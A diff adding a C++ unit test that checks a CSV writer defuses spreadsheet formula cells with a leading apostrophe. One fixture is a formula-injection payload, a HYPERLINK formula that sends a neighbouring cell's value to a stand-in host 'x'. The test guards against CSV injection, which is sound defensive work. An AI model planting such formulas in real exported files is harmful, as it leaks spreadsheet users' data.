@@ -99,6 +99,20 @@ TEST(CsvWriteTest, QuotesOnlyFieldsThatNeedItAndEndsRecordsWithCrlf)
               "second\r\n");
 }
 
+TEST(CsvWriteTest, DefusedCellsThatASpreadsheetWouldRunGetALeadingApostropheAndKeptOnesStayAsTheyAre)
+{
+    const std::vector<std::string_view> fields = {
+        "=HYPERLINK(\"http://x/?\"&D2)", "+1", "-x", "@SUM(A1)", "\tTab", "\rx", "a=b", "", "'quoted"};
+    SecureString defused;
+    AppendCsvRow(defused, fields, CsvFormulas::Defused);
+    EXPECT_EQ(std::string(defused.data(), defused.size()),
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\",'+1,'-x,'@SUM(A1),\"'\tTab\",\"'\rx\",a=b,,'quoted\r\n");
+    SecureString kept;
+    AppendCsvRow(kept, fields);
+    EXPECT_EQ(std::string(kept.data(), kept.size()),
+              "\"=HYPERLINK(\"\"http://x/?\"\"&D2)\",+1,-x,@SUM(A1),\"\tTab\",\"\rx\",a=b,,'quoted\r\n");
+}
+
 TEST(CsvWriteTest, WhatIsWrittenReadsBackFieldForField)
 {
     const std::vector<std::string> fields = {"\"", ",",    "\r\n",       "\n\n", "\r", "\"\"",
